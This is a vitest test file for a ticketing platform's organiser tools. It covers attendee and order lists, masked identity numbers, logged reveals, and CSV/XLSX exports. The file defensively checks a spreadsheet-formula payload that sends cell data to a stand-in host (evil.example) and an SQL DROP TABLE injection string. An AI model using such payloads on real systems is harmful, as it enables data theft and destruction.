import { Readable } from "node:stream";
import { eq } from "drizzle-orm";
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  buyers,
  eTicketCheckIns,
  eventVisitorFields,
  organiserAccessLog,
  ticketCategories,
} from "../../server/db/schema/index.ts";
import { neutraliseCell } from "../../server/features/exports/spreadsheet.ts";
import { EXPORT_BATCH } from "../../server/features/records/export-records.ts";
import type { VisitorField } from "../../shared/checkout/visitor-fields.ts";
import { issuePaidTickets } from "../support/e-tickets-fixtures.ts";
import { createCategory, createEvent } from "../support/events-fixtures.ts";
import { createOrgFixture, type OrgFixture, orgCall } from "../support/organizer-fixtures.ts";
import { createTestApp, type TestApp } from "../support/test-app.ts";

/**
 * What an organiser sees of their buyers. Protected answers (identity numbers)
 * are masked in lists and exports unless an owner or admin opens them with a reason; every opening and
 * every export is in the access log; exports are neutralised against formula injection.
 */

const FORM: VisitorField[] = [
  { key: "name", label: "Nama lengkap", type: "text", required: true, allow_filler: false, max_length: 255 },
  { key: "email", label: "E-mail", type: "email", required: true, allow_filler: false, max_length: 255 },
  { key: "identity", label: "NIK", type: "nik", required: true, allow_filler: false, max_length: 16 },
];
/** The identity numbers issuePaidTickets seals, by visitor index. */
const nik = (index: number) => `31712345678901${String(index).padStart(2, "0")}`;
const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"klik")';

let t: TestApp;
let f: OrgFixture;
let ticketIds: string[];
let invoice: string;

const url = (path: string) => `/organizer/organizations/${f.organiser.id}/events/${f.published.id}${path}`;
const as = (role: keyof OrgFixture["members"]) => f.members[role].token;

async function download(path: string, token: string) {
  const response = await t.app.inject({
    method: "GET",
    url: `/api/v1${url(path)}`,
    headers: { cookie: `tiketin_session=${token}`, "accept-language": "id" },
  });
  return response;
}

beforeAll(async () => {
  t = await createTestApp();
  f = await createOrgFixture(t.database.db);
  const db = t.database.db;
  await db.insert(eventVisitorFields).values({ eventId: f.published.id, config: FORM });
  const [category] = await db
    .select({ id: ticketCategories.id })
    .from(ticketCategories)
    .where(eq(ticketCategories.eventId, f.published.id));
  const sold = await issuePaidTickets(db, {
    buyerId: f.target.id,
    eventId: f.published.id,
    categoryId: category!.id,
    visitors: ["Sari Wulandari", "Budi Santoso", HOSTILE_NAME],
  });
  ticketIds = sold.ticketIds;
  await db.insert(eTicketCheckIns).values({
    ticketId: ticketIds[1]!,
    eventId: f.published.id,
    gate: "Gerbang A",
    codeVersion: 1,
    checkedInAt: new Date(),
    source: "online",
  });
  const orders = await orgCall(t.app, { method: "GET", url: url("/orders"), token: as("finance") });
  invoice = (orders.body.data as { rows: { invoiceNumber: string }[] }).rows[0]!.invoiceNumber;
});
afterAll(() => t.close());

type AttendeePage = {
  rows: {
    ticketId: string;
    holderName: string;
    answers: { key: string; value: string; masked: boolean }[];
  }[];
  meta: { total: number };
  canReveal: boolean;
};

describe("attendees and orders", () => {
  it("lists every ticket with its answers, identity numbers masked, for finance", async () => {
    const response = await orgCall(t.app, { method: "GET", url: url("/attendees"), token: as("finance") });
    expect(response.status).toBe(200);
    const page = response.body.data as AttendeePage;
    expect(page.meta.total).toBe(3);
    expect(page.canReveal).toBe(false);
    const identity = page.rows.flatMap((row) => row.answers.filter((answer) => answer.key === "identity"));
    expect(identity).toHaveLength(3);
    expect(identity.every((answer) => answer.masked && answer.value === "")).toBe(true);
    // Nowhere in the answer, not even in another field.
    expect(JSON.stringify(response.body)).not.toContain(nik(0));
  });

  it("searches by name, invoice number and ticket reference, and filters by check-in", async () => {
    const search = async (query: string) =>
      (
        (await orgCall(t.app, { method: "GET", url: url(`/attendees?${query}`), token: as("admin") })).body
          .data as AttendeePage
      ).rows.map((row) => row.holderName);
    expect(await search("q=wulan")).toEqual(["Sari Wulandari"]);
    expect((await search(`q=${invoice}`)).length).toBe(3);
    expect(await search(`q=${ticketIds[1]!.slice(0, 8).toUpperCase()}`)).toEqual(["Budi Santoso"]);
    expect(await search("checked_in=yes")).toEqual(["Budi Santoso"]);
    expect((await search("checked_in=no")).sort()).toEqual([HOSTILE_NAME, "Sari Wulandari"].sort());
    // The user's wildcards are text, not patterns.
    expect(await search("q=%25")).toEqual([]);
  });

  it("lists orders with their amounts and filters them by payment status", async () => {
    const paid = await orgCall(t.app, { method: "GET", url: url("/orders?status=paid"), token: as("owner") });
    const rows = (paid.body.data as { rows: { tickets: number; total: number }[] }).rows;
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ tickets: 3, total: 450_000 });
    const waiting = await orgCall(t.app, {
      method: "GET",
      url: url("/orders?status=waiting"),
      token: as("owner"),
    });
    expect((waiting.body.data as { rows: unknown[] }).rows).toHaveLength(0);
  });

  it("answers bad paging, filters and ids with a translated 400 or 404, never a 500", async () => {
    for (const query of [
      "show=0",
      "show=101",
      "page=-1",
      "status=lunas",
      "checked_in=maybe",
      "category=abc",
    ]) {
      const response = await orgCall(t.app, {
        method: "GET",
        url: url(`/attendees?${query}`),
        token: as("owner"),
      });
      const orders = await orgCall(t.app, {
        method: "GET",
        url: url(`/orders?${query}`),
        token: as("owner"),
      });
      expect([response.status, orders.status].every((status) => status === 400 || status === 200)).toBe(true);
    }
    const bad = await orgCall(t.app, { method: "GET", url: url("/attendees?show=0"), token: as("owner") });
    expect(bad.body.errorCode).toBe("validation_failed");
    for (const id of ["nope", "00000000-0000-0000-0000-000000000000", "'; DROP TABLE e_tickets;--"]) {
      const response = await orgCall(t.app, {
        method: "POST",
        url: url(`/attendees/${encodeURIComponent(id)}/reveal`),
        token: as("owner"),
        body: { reason: "Pemeriksaan identitas" },
      });
      expect(response.status).toBe(404);
    }
  });
});

describe("revealing protected answers", () => {
  it("opens them for an owner with a reason, and writes who, when and why to the access log", async () => {
    const response = await orgCall(t.app, {
      method: "POST",
      url: url(`/attendees/${ticketIds[0]}/reveal`),
      token: as("owner"),
      body: { reason: "Cocokkan KTP di gerbang VIP" },
    });
    expect(response.status).toBe(200);
    const answers = (response.body.data as { answers: { key: string; value: string }[] }).answers;
    // The control of the masking test above: the number is there to be found once opened.
    expect(answers.find((answer) => answer.key === "identity")?.value).toBe(nik(0));
    const log = await orgCall(t.app, {
      method: "GET",
      url: `/organizer/organizations/${f.organiser.id}/access-log`,
      token: as("owner"),
    });
    const entries = (
      log.body.data as { rows: { action: string; reason: string; actorName: string; detail: unknown }[] }
    ).rows;
    const reveal = entries.find((entry) => entry.action === "reveal");
    const [owner] = await t.database.db
      .select({ name: buyers.name })
      .from(buyers)
      .where(eq(buyers.id, f.members.owner.id));
    expect(reveal).toMatchObject({ reason: "Cocokkan KTP di gerbang VIP", actorName: owner?.name });
    expect(JSON.stringify(reveal?.detail)).toContain(ticketIds[0]);
    expect(JSON.stringify(log.body)).not.toContain(nik(0));
  });

  it("refuses without a reason, and refuses finance, logging nothing", async () => {
    const before = await t.database.db.select().from(organiserAccessLog);
    const noReason = await orgCall(t.app, {
      method: "POST",
      url: url(`/attendees/${ticketIds[0]}/reveal`),
      token: as("admin"),
      body: { reason: "  " },
    });
    expect(noReason.status).toBe(400);
    const finance = await orgCall(t.app, {
      method: "POST",
      url: url(`/attendees/${ticketIds[0]}/reveal`),
      token: as("finance"),
      body: { reason: "Rekonsiliasi pembayaran" },
    });
    expect(finance.status).toBe(403);
    expect(await t.database.db.select().from(organiserAccessLog)).toHaveLength(before.length);
  });
});

describe("exports", () => {
  it("streams attendees as CSV: one column per question, identity hidden, formulas neutralised", async () => {
    const response = await download("/exports/attendees?format=csv", as("finance"));
    expect(response.statusCode).toBe(200);
    expect(response.headers["content-type"]).toContain("text/csv");
    expect(response.headers["content-disposition"]).toContain("attachment");
    const lines = response.body
      .replace(/^\uFEFF/, "")
      .trim()
      .split("\r\n");
    expect(lines).toHaveLength(4);
    expect(lines[0]).toContain("Nama lengkap");
    expect(lines[0]).toContain("NIK");
    expect(response.body).not.toContain(nik(0));
    expect(response.body).toContain("tersembunyi");
    const hostile = lines.find((line) => line.includes("HYPERLINK"));
    // The control: the stored name starts with "=" (the list shows it as given); the file does not.
    expect(HOSTILE_NAME.startsWith("=")).toBe(true);
    expect(hostile).toContain(`"'=HYPERLINK(`);
    expect(hostile).not.toMatch(/(^|,)"?=/);
  });

  it("exports the identity numbers only for an owner or admin who gives a reason", async () => {
    const finance = await download(
      "/exports/attendees?format=csv&reveal=yes&reason=Audit+tahunan",
      as("finance"),
    );
    expect(finance.statusCode).toBe(403);
    const noReason = await download("/exports/attendees?format=csv&reveal=yes", as("admin"));
    expect(noReason.statusCode).toBe(400);
    const admin = await download(
      "/exports/attendees?format=csv&reveal=yes&reason=Audit+tahunan",
      as("admin"),
    );
    expect(admin.statusCode).toBe(200);
    expect(admin.body).toContain(nik(2));
  });

  it("streams orders as XLSX a spreadsheet app opens, neutralised the same way", async () => {
    const response = await t.app.inject({
      method: "GET",
      url: `/api/v1${url("/exports/attendees?format=xlsx")}`,
      headers: { cookie: `tiketin_session=${as("owner")}`, "accept-language": "en" },
    });
    expect(response.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.read(Readable.from([response.rawPayload]));
    const sheet = workbook.worksheets[0]!;
    expect(sheet.rowCount).toBe(4);
    const names = sheet.getColumn(4).values.map(String);
    expect(names).toContain(`'${HOSTILE_NAME}`);
    const orders = await download("/exports/orders?format=xlsx", as("finance"));
    expect(orders.statusCode).toBe(200);
  });

  it("writes an order's status and payment method as the orders list shows them, not as stored", async () => {
    const response = await download("/exports/orders?format=csv", as("finance"));
    expect(response.statusCode).toBe(200);
    const [header, order] = response.body
      .replace(/^\uFEFF/, "")
      .trim()
      .split("\r\n");
    const cells = (order ?? "").split(",").map((cell) => cell.replace(/^"|"$/g, ""));
    const column = (name: string) => cells[(header ?? "").split(",").indexOf(name)];
    expect(column("Status")).toBe("Lunas");
    expect(column("Metode")).not.toMatch(/^[a-z_]+$/);
    expect(column("Metode")).toMatch(/[A-Z]/);
  });

  it("writes every export to the access log with its row count; finance cannot read the log", async () => {
    const log = await orgCall(t.app, {
      method: "GET",
      url: `/organizer/organizations/${f.organiser.id}/access-log?show=100`,
      token: as("owner"),
    });
    const exports = (
      log.body.data as { rows: { action: string; detail: { rows?: number; revealed?: boolean } }[] }
    ).rows.filter((row) => row.action === "export");
    expect(exports.length).toBeGreaterThanOrEqual(4);
    expect(exports.some((row) => row.detail.revealed === true && row.detail.rows === 3)).toBe(true);
    const finance = await orgCall(t.app, {
      method: "GET",
      url: `/organizer/organizations/${f.organiser.id}/access-log`,
      token: as("finance"),
    });
    expect(finance.status).toBe(403);
  });
});

describe("exports larger than a batch", () => {
  it("walks every ticket once, in batches, with admissions found in every batch, in both formats", async () => {
    const db = t.database.db;
    const event = await createEvent(db, { organiserId: f.organiser.id, lifecycle: "published" });
    const category = await createCategory(db, event.id, { name: "Festival", quota: 5_000 });
    const total = EXPORT_BATCH * 2 + 3;
    const sold = await issuePaidTickets(db, {
      buyerId: f.target.id,
      eventId: event.id,
      categoryId: category.id,
      visitors: Array.from({ length: total }, (_, i) => `Pengunjung ${i}`),
    });
    // Admitted: the first, one in each later batch and the last, in the export's order (ticket id).
    const ordered = [...sold.ticketIds].sort();
    const admitted = [0, EXPORT_BATCH, EXPORT_BATCH * 2 + 1, total - 1].map((index) => ordered[index]!);
    await db.insert(eTicketCheckIns).values(
      admitted.map((ticketId) => ({
        ticketId,
        eventId: event.id,
        gate: "Gerbang Timur",
        codeVersion: 1,
        checkedInAt: new Date(),
        source: "online" as const,
      })),
    );
    const path = `/api/v1/organizer/organizations/${f.organiser.id}/events/${event.id}/exports/attendees`;
    const get = (format: string) =>
      t.app.inject({
        method: "GET",
        url: `${path}?format=${format}`,
        headers: { cookie: `tiketin_session=${as("owner")}`, "accept-language": "id" },
      });
    const csv = await get("csv");
    const lines = csv.body
      .replace(/^\uFEFF/, "")
      .trim()
      .split("\r\n")
      .slice(1);
    expect(lines).toHaveLength(total);
    expect(new Set(lines.map((line) => line.split(",")[0])).size).toBe(total);
    expect(lines.filter((line) => line.includes("Gerbang Timur"))).toHaveLength(admitted.length);
    const xlsx = await get("xlsx");
    expect(xlsx.statusCode).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.read(Readable.from([xlsx.rawPayload]));
    const sheet = workbook.worksheets[0]!;
    expect(sheet.rowCount).toBe(total + 1);
    const gates = sheet.getColumn(10).values.filter((value) => value === "Gerbang Timur");
    expect(gates).toHaveLength(admitted.length);
  });
});

describe("neutraliseCell", () => {
  it("prefixes what a spreadsheet would run, and leaves the rest", () => {
    for (const formula of ["=1+1", "+62812", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]) {
      expect(neutraliseCell(formula)).toBe(`'${formula}`);
    }
    for (const text of ["Sari", "1+1", "a=b", "", "'=already"]) expect(neutraliseCell(text)).toBe(text);
  });
});
